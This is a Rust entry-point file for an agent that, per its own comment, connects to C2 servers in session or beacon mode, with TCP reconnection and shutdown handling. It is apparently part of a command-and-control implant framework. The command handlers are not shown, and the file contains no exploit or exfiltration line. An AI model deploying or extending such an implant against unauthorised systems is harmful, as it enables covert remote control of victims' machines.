//! Backhaul Agent Binary
//!
//! Connects to the configured C2 servers in session or beacon mode.

use anyhow::Result;
use backhaul_agent::transport::{TcpBeaconDialer, TcpDialer};
use backhaul_agent::{AgentConfig, AgentContext, BeaconEngine, Exit, Mode, Reconnector, SessionEngine};
use std::sync::Arc;
use tokio::sync::oneshot;
use tracing::{error, info, warn};

#[tokio::main]
async fn main() -> Result<()> {
    // Initialize tracing
    tracing_subscriber::fmt()
        .with_env_filter(tracing_subscriber::EnvFilter::from_default_env())
        .init();

    let config = AgentConfig::load()?;
    config.validate()?;
    info!(
        "Starting Backhaul agent {} in {:?} mode",
        config.instance_id, config.mode
    );

    let builder = AgentContext::builder(config).session_dialer(Arc::new(TcpDialer));
    let handlers = builder.builtin_handlers().build()?;
    let ctx = builder.build(handlers);

    let (abort_tx, abort_rx) = oneshot::channel();
    tokio::spawn(async move {
        if tokio::signal::ctrl_c().await.is_ok() {
            warn!("Interrupt received, stopping after the current connection");
            let _ = abort_tx.send(());
        }
    });

    let mut reconnector = Reconnector::for_context(&ctx).with_abort(abort_rx);

    let result = match ctx.config.mode {
        Mode::Session => {
            let engine = SessionEngine::new(Arc::clone(&ctx));
            reconnector
                .run(&TcpDialer, |connection| {
                    let engine = engine.clone();
                    async move { engine.run(connection).await }
                })
                .await
        }
        Mode::Beacon => {
            let engine = BeaconEngine::new(Arc::clone(&ctx)).with_budget(reconnector.budget());
            reconnector
                .run(&TcpBeaconDialer, |beacon| {
                    let engine = engine.clone();
                    async move { engine.run(beacon).await }
                })
                .await
        }
    };

    match result {
        Ok(Exit::Terminated) => info!("Terminated by server"),
        Ok(Exit::Aborted) => info!("Agent shutting down"),
        Err(e) => {
            error!("Agent error: {}", e);
            std::process::exit(1);
        }
    }
    Ok(())
}
